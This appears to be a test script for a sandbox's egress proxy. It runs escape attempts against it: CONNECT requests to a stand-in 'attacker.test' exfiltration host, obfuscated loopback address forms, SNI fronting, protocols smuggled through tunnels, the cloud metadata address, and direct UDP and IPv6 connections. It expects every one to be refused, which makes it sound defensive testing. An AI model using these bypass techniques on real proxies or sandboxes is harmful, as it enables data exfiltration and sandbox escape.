# Attacks on the egress proxy (docs/network.md), from a sandbox that has a network policy.
# ATTACK picks the attack; PORT is a host listener that must see nothing (unless a CONTROL line
# says a control connection was meant to reach it); HOST_IP is the host's own address.
# Proxy answers: BLOCKED <what> HTTP<status>, TLS-ALERT (refused after the tunnel's 200),
# CLOSED; a tunnel or request that got through is ALLOWED.
import ssl

PROXY = ('127.0.0.1', 3128)
port = int(env('PORT'))
attack = env('ATTACK')
host_ip = os.environ.get('HOST_IP', '192.0.2.1')
mark = env('MARK')


def client_hello(sni):
    """The ClientHello Python's ssl sends for `sni` (None: no SNI)."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def status_line(s):
    data = b''
    while b'\r\n\r\n' not in data:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    line = data.split(b'\r\n', 1)[0].decode('latin-1')
    parts = line.split(' ', 2)
    code = parts[1] if len(parts) > 1 else '?'
    return code, line, data.split(b'\r\n\r\n', 1)[-1] if b'\r\n\r\n' in data else b''


def tunnel(what, target, first=None, expect_through=False):
    """CONNECT target, then send `first` (a ClientHello, another protocol's bytes)."""
    try:
        s = socket.create_connection(PROXY, timeout=10)
    except OSError as ex:
        blocked(what, ex.errno)
        return
    s.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target, target)).encode())
    code, line, _ = status_line(s)
    if code != '200':
        print('ANSWER %s %s' % (what, line), flush=True)
        blocked(what, 'HTTP' + code)
        return
    if first is None:
        allowed(what, 'tunnel opened')
        return
    s.sendall(first)
    s.settimeout(2 if expect_through else 10)
    try:
        reply = s.recv(64)
    except socket.timeout:
        reply = None
    except OSError as ex:
        reply = ex
    if reply == b'\x15\x03\x03\x00\x02\x02\x31':
        blocked(what, 'TLS-ALERT')
    elif reply == b'':
        blocked(what, 'CLOSED')
    elif expect_through:
        print('CONTROL %s through' % what, flush=True)
    else:
        allowed(what, repr(reply))
    s.close()


def plain(what, url, host=None):
    s = socket.create_connection(PROXY, timeout=10)
    hdr = ('Host: %s\r\n' % host) if host else ''
    s.sendall(('GET %s HTTP/1.1\r\n%s\r\n' % (url, hdr)).encode())
    code, line, _ = status_line(s)
    print('ANSWER %s %s' % (what, line), flush=True)
    if code in ('403', '400', '501', '502'):
        blocked(what, 'HTTP' + code)
    else:
        allowed(what, line)


def direct(what, family, addr):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        s.sendall(b'direct')
    finally:
        s.close()


if attack == 'dns':
    attempt('getaddrinfo-listed', lambda: socket.getaddrinfo('ok.test', 443))
    attempt('getaddrinfo-public', lambda: socket.getaddrinfo('example.com', 443))
    conf = open('/etc/resolv.conf').read() if os.path.exists('/etc/resolv.conf') else ''
    print('NAMESERVERS', sum(1 for l in conf.splitlines() if l.strip().startswith('nameserver')))
    # Names off the list through the proxy: refused before any lookup.
    tunnel('connect-off-list', 'exfil-%s.attacker.test:443' % mark)
    plain('http-off-list', 'http://exfil2-%s.attacker.test/' % mark)
    # DNS over TCP through a tunnel to a resolver address.
    tunnel('connect-resolver', '%s:53' % host_ip)
    tunnel('connect-public-resolver', '8.8.8.8:53')
elif attack == 'literals':
    for name, target in [
        ('v4', '127.0.0.1:%d' % port),
        ('v4-other', '127.0.0.2:%d' % port),
        ('host-ip', '%s:%d' % (host_ip, port)),
        ('v6', '[::1]:%d' % port),
        ('mapped', '[::ffff:127.0.0.1]:%d' % port),
        ('decimal', '2130706433:%d' % port),
        ('hex', '0x7f000001:%d' % port),
        ('short', '127.1:%d' % port),
        ('octal', '0177.0.0.1:%d' % port),
        ('unspecified', '0.0.0.0:%d' % port),
    ]:
        tunnel('connect-' + name, target, client_hello(None))
    plain('http-v4', 'http://127.0.0.1:%d/' % port)
    plain('http-v6', 'http://[::1]:%d/' % port)
elif attack == 'internal':
    # Allowed names that resolve to the host's loopback, its own address, mapped and 6to4
    # forms of loopback: refused without the operator's opt-in.
    for name in ('loop.test', 'own.test', 'mapped.test', 'sixtofour.test', 'mixed.test'):
        tunnel('connect-' + name, '%s:%d' % (name, port), client_hello(name))
        plain('http-' + name, 'http://%s:%d/' % (name, port))
elif attack == 'localhost':
    tunnel('connect-localhost', 'localhost:%d' % port, client_hello('localhost'))
    plain('http-localhost', 'http://localhost:%d/' % port)
elif attack == 'fronting':
    target = 'ok.test:%d' % port
    tunnel('sni-other', target, client_hello('other.test'))
    tunnel('sni-none', target, client_hello(None))
    tunnel('sni-suffix', target, client_hello('evil.ok.test'))
    tunnel('sni-address', target, client_hello('127.0.0.1'))
    # The control: the right name goes through, so the refusals above are the check's.
    tunnel('sni-right', target, client_hello('OK.test.'), expect_through=True)
elif attack == 'protocols':
    tunnel('port-not-allowed', 'ok.test:22', b'SSH-2.0-OpenSSH_9.2\r\n')
    tunnel('ssh-in-tunnel', 'ok.test:%d' % port, b'SSH-2.0-OpenSSH_9.2\r\n')
    tunnel('http-in-tunnel', 'ok.test:%d' % port, b'GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n')
    tunnel('smtp-in-tunnel', 'ok.test:%d' % port, b'EHLO x\r\n')
    tunnel('not-a-hello', 'ok.test:%d' % port, b'\x16\x03\x01\x00\x05hello')
    plain('https-absolute', 'https://ok.test:%d/' % port)
    plain('host-mismatch', 'http://ok.test:%d/' % port, host='other.test')
elif attack == 'range':
    # A range rule names 127.0.0.1 alone: any protocol to it, nothing to its neighbours.
    tunnel('raw-to-rule', '127.0.0.1:%d' % port, b'SSH-2.0-OpenSSH_9.2\r\n', expect_through=True)
    tunnel('raw-next-door', '127.0.0.2:%d' % port, b'SSH-2.0-OpenSSH_9.2\r\n')
    tunnel('raw-other-port', '127.0.0.1:%d' % (port + 1), b'SSH-2.0-OpenSSH_9.2\r\n')
elif attack == 'internal-ranges':
    # Literals in internal ranges a request named: reached only if the operator named them.
    # The addresses off this host are tried only once the loopback ones were refused: should
    # the rule ever break, the attack stops at the loopback listener (which the test watches)
    # and sends nothing to the metadata address or the private network.
    def refused_at_proxy(what, target):
        s = socket.create_connection(PROXY, timeout=10)
        s.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target, target)).encode())
        code, line, _ = status_line(s)
        s.close()
        if code == '200':
            allowed(what, 'tunnel opened')
            return False
        print('ANSWER %s %s' % (what, line), flush=True)
        blocked(what, 'HTTP' + code)
        return True
    local = [refused_at_proxy('connect-loopback', '127.0.0.1:%d' % port),
             refused_at_proxy('connect-loopback-v6', '[::1]:%d' % port)]
    if all(local):
        refused_at_proxy('connect-metadata', '169.254.169.254:%d' % port)
        refused_at_proxy('connect-private', '10.1.1.1:%d' % port)
    else:
        print('STOPPED before the addresses off this host: loopback was reached', flush=True)
elif attack == 'udp':
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(1)
    for name, addr in [('udp-loopback', ('127.0.0.1', port)), ('udp-host-ip', (host_ip, port)),
                       ('udp-proxy-port', PROXY), ('udp-dns', ('8.8.8.8', 53))]:
        attempt(name, lambda a=addr: u.sendto(mark.encode(), a) and u.recvfrom(100))
elif attack == 'ipv6':
    attempt('direct-v6-loopback', lambda: direct('v6', socket.AF_INET6, ('::1', port)))
    attempt('direct-v6-public', lambda: direct('v6', socket.AF_INET6, ('2001:4860:4860::8888', 443)))
    attempt('direct-v6-mapped', lambda: direct('v6', socket.AF_INET6, ('::ffff:127.0.0.1', port)))
    tunnel('connect-v6-loopback', '[::1]:%d' % port, client_hello(None))
    tunnel('connect-v6-public', '[2001:4860:4860::8888]:443', client_hello(None))
elif attack == 'direct':
    # A program that ignores the proxy variables has nowhere to connect.
    attempt('direct-loopback', lambda: direct('v4', socket.AF_INET, ('127.0.0.1', port)))
    attempt('direct-host-ip', lambda: direct('v4', socket.AF_INET, (host_ip, port)))
    attempt('direct-public', lambda: direct('v4', socket.AF_INET, ('1.1.1.1', 443)))
    attempt('resolve', lambda: socket.getaddrinfo('ok.test', 443))
    # Nor can it take the proxy's port for itself.
    for name, addr, reuse in [('bind-proxy-port', PROXY, False),
                              ('bind-proxy-port-reuse', PROXY, True),
                              ('bind-any-proxy-port', ('0.0.0.0', 3128), True)]:
        def bind(addr=addr, reuse=reuse):
            s = socket.socket()
            if reuse:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            s.bind(addr)
            s.listen(1)
        attempt(name, bind)
elif attack == 'other-sandbox':
    # This sandbox has no policy: 127.0.0.1:3128 is its own loopback, where nothing listens.
    attempt('proxy-port', lambda: direct('v4', socket.AF_INET, PROXY))
elif attack == 'flood':
    # More connections than the sandbox may make: the first get their answer, then the
    # limit's, then the endpoint is gone.
    answers = {}
    for i in range(int(env('COUNT'))):
        try:
            s = socket.create_connection(PROXY, timeout=10)
            s.sendall(b'CONNECT flood.test:443 HTTP/1.1\r\n\r\n')
            code, line, _ = status_line(s)
            key = 'HTTP' + code + (' limit' if 'limit' in line else '')
        except OSError as ex:
            key = ename(ex.errno)
        answers[key] = answers.get(key, 0) + 1
    for key, n in sorted(answers.items()):
        print('FLOOD %s %d' % (key, n))
elif attack == 'bytes':
    # Download more than the sandbox may move: the proxy cuts it.
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(('GET http://ok.test:%d/big HTTP/1.1\r\n\r\n' % port).encode())
    got = 0
    while True:
        try:
            chunk = s.recv(1 << 16)
        except OSError:
            break
        if not chunk:
            break
        got += len(chunk)
    print('RECEIVED', got)
    attempt('after-limit', lambda: socket.create_connection(PROXY, timeout=3))
print('DONE')
